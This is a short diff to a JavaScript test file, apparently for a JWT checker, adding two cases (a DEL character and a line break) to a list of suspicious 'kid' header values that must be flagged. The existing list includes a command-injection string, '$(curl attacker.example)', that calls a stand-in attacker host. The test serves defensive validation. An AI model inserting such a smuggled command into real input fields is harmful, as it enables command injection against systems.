@@ -27,6 +27,8 @@ describe('suspicious kid', () => {
     ['$(curl attacker.example)'],
     ['a|b'],
     ['key\u0000'],
+    ['key\u007f'],
+    ['line\nbreak'],
     ['k'.repeat(300)],
   ])('%s is flagged', async (kid) => {
     const r = await inspect({ alg: 'RS256', kid }, idClaims)
